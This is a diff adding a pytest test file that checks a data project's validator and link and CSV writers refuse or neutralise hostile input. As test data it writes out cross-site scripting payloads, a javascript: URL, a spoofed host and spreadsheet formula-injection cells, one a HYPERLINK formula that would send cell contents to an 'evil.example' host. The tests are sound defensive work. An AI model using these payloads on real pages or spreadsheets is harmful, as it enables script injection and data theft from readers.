@@ -1,0 +1,119 @@
+"""Nothing in the data can attack a reader: an address that is not one never reaches a page as markup,
+and no cell reaches a reader's spreadsheet as a formula. The data check refuses both, and the places
+that write data into links and CSV files make them harmless even where the check was skipped."""
+
+import csv
+import io
+from urllib.parse import unquote
+
+import pytest
+from conftest import DATA, read_rows, set_cell
+from markdown_it import MarkdownIt
+
+from unsigned_peace.addresses import address_problem
+from unsigned_peace.bibliography import reference
+from unsigned_peace.data import load_data
+from unsigned_peace.escape import for_link_target, for_spreadsheet
+from unsigned_peace.machinery import cli
+from unsigned_peace.machinery.chart_output import data_csv
+from unsigned_peace.machinery.downloads import copy_for_spreadsheets
+from unsigned_peace.paths import DATA_DIR_ENV
+
+SCRIPT_ADDRESS = "https://tass.com/)<script>alert(document.domain)</script>"
+NOT_ADDRESSES = {
+    SCRIPT_ADDRESS: '"<"',
+    "https://www.mofa.go.jp/a page.html": '" " (U+0020 SPACE)',
+    "javascript:alert(1)": "must begin with http:// or https://",
+    "https://www.mofa.go.jp/\u202ejp": "U+202E RIGHT-TO-LEFT OVERRIDE",
+    "https://www.mofa.go.jp@evil.example/": "a user name before the host",
+    "https:///no-host": "names no host",
+    "https://www.mofa.go.jp/%zz": 'a "%" must begin an escape',
+    'https://www.mofa.go.jp/"onmouseover="x': '"""',
+    "https://www.mofa.go.jp/a\\b": "U+005C REVERSE SOLIDUS",
+}
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1)", "\tTab first"]
+
+
+def validate_lines(folder, monkeypatch, capsys) -> list[str]:
+    monkeypatch.setenv(DATA_DIR_ENV, str(folder))
+    assert cli.main(["validate"]) == 1
+    return capsys.readouterr().err.strip().splitlines()
+
+
+@pytest.mark.parametrize("address", NOT_ADDRESSES)
+def test_an_address_that_is_not_one_says_why(address):
+    assert NOT_ADDRESSES[address] in address_problem(address)
+
+
+@pytest.mark.parametrize("address", ["https://en.wikipedia.org/wiki/Treaty_of_Saint_Petersburg_(1875)",
+                                     "https://ru.wikipedia.org/wiki/Хабомаи", "http://203.0.113.7/page?a=1&b=2#top",
+                                     "https://www.mofa.go.jp/mofaj/area/hoppo/hoppo.html"])
+def test_real_addresses_pass(address):
+    assert address_problem(address) is None
+
+
+def test_the_validate_command_refuses_a_script_in_an_address(data_copy, monkeypatch, capsys):
+    set_cell(data_copy / "sources.csv", 1, "url", SCRIPT_ADDRESS)
+    lines = validate_lines(data_copy, monkeypatch, capsys)
+    assert len(lines) == 1, lines
+    assert lines[0].endswith('data/sources.csv, line 2, column "url": "https://tass.com/)<script>alert(documen…" '
+                             'is not a web address: it holds "<" (U+003C LESS-THAN SIGN), which no web address can '
+                             "hold; percent-encode it or remove it")
+
+
+def test_the_copy_an_address_was_read_at_is_checked_too(data_copy, monkeypatch, capsys):
+    set_cell(data_copy / "sources.csv", 1, "read_at", "https://blog.example/a b")
+    (line,) = validate_lines(data_copy, monkeypatch, capsys)
+    assert 'line 2, column "read_at": "https://blog.example/a b" is not a web address' in line
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_validate_command_refuses_a_cell_a_spreadsheet_would_run(data_copy, monkeypatch, capsys, formula):
+    set_cell(data_copy / "events.csv", 4, "title", formula)
+    lines = validate_lines(data_copy, monkeypatch, capsys)
+    assert len(lines) == 1, lines
+    assert 'data/events.csv, line 5, column "title": ' in lines[0]
+    assert "so a spreadsheet would run the cell as a formula" in lines[0]
+
+
+def test_a_negative_figure_is_a_number_not_a_formula():
+    assert for_spreadsheet("-3.5") == "-3.5" and for_spreadsheet(-3.5) == -3.5
+    assert [for_spreadsheet(cell) for cell in FORMULAS] == ["'" + cell for cell in FORMULAS]
+
+
+def markdown_tokens(text: str) -> list:
+    # MyST reads the book's Markdown with markdown-it, raw HTML allowed: as a notebook's output is read.
+    parser = MarkdownIt("commonmark", {"html": True})
+    return [child for token in parser.parse(text) for child in [token, *(token.children or [])]]
+
+
+@pytest.mark.parametrize("address", [SCRIPT_ADDRESS, "https://example.org/x)'onmouseover='alert(1)",
+                                     "https://example.org/<img src=x onerror=alert(1)>", "https://example.org/x\\"])
+def test_a_bibliography_entry_cannot_carry_markup_whatever_its_address(address):
+    source = next(load_data("sources").sources.itertuples(index=False))._replace(url=address)
+    tokens = markdown_tokens(reference(source))
+    assert not [token for token in tokens if token.type.startswith("html")]
+    links = [token.attrs["href"] for token in tokens if token.type == "link_open"]
+    assert links == [for_link_target(address)] and unquote(links[0]) == address
+
+
+def test_a_link_to_anything_but_the_web_is_no_link():
+    source = next(load_data("sources").sources.itertuples(index=False))._replace(url="javascript:alert(1)")
+    assert not [token for token in markdown_tokens(reference(source)) if token.type == "link_open"]
+
+
+def test_a_charts_data_file_writes_formulas_as_text():
+    text = data_csv({"columns": ["Year", "=Title"], "rows": [[1956, "=HYPERLINK(1)"], [-5, "-5"], [2, "@x"]]})
+    assert list(csv.reader(io.StringIO(text))) == [["Year", "'=Title"], ["1956", "'=HYPERLINK(1)"],
+                                                   ["-5", "-5"], ["2", "'@x"]]
+
+
+def test_the_data_packages_files_are_copied_byte_for_byte_and_a_formula_that_got_past_the_check_as_text(tmp_path):
+    events = DATA / "events.csv"
+    copy_for_spreadsheets(events, tmp_path / "events.csv")
+    assert (tmp_path / "events.csv").read_bytes() == events.read_bytes()
+
+    hostile = tmp_path / "hostile.csv"
+    hostile.write_text("id,title\na,=HYPERLINK(1)\nb,-7\n", encoding="utf-8")
+    copy_for_spreadsheets(hostile, tmp_path / "copy.csv")
+    assert read_rows(tmp_path / "copy.csv") == [["id", "title"], ["a", "'=HYPERLINK(1)"], ["b", "-7"]]
